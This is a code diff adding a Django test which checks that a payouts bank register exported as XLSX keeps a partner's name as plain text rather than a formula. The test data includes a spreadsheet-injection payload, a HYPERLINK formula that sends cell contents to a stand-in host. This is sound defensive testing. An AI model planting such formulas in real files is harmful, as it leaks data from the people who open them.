@@ -13,6 +13,7 @@ from django.core.management import call_command
 from django.db import connection
 from django.test import override_settings
 from django.utils import timezone
+from openpyxl import load_workbook
 
 from payouts import bank_files, batches
 from payouts.models import PayoutDetails
@@ -83,6 +84,25 @@ def test_bank_register_carries_the_full_numbers(world):
     assert [(r["partner_code"], r["card_number"], r["amount"]) for r in rows] == [
         (partner.code, CARD, "500.00")
     ]
+
+
+def test_bank_register_xlsx_holds_a_partners_text_as_text_not_a_formula(world):
+    """The recipient's name and bank are the partner's own input: in the XLSX register a name
+    starting with "=" must stay a string, not become a formula run on the manager's machine."""
+    settings_set(world, minimum="100.00")
+    partner = world.partners[0]
+    earn(world, partner, "5000.00", external_id="enc-xlsx")
+    evil = '=HYPERLINK("http://evil.test/?"&B2,"Ivan")'
+    details = card_details(partner)
+    PayoutDetails.objects.filter(pk=details.pk).update(
+        holder_name=evil, created_at=timezone.now() - timedelta(60)
+    )
+    batch = batches.payout_batch_approve(batch=batch_create(world))
+    sheet = load_workbook(io.BytesIO(bank_files.register_xlsx(batch))).active
+    header = [cell.value for cell in sheet[1]]
+    recipient = sheet.cell(row=2, column=header.index("recipient") + 1)
+    assert (recipient.value, recipient.data_type) == (evil, "s")
+    assert sheet.cell(row=2, column=header.index("card_number") + 1).value == CARD
 
 
 def test_rotation_reencrypts_under_the_new_key(world, settings):
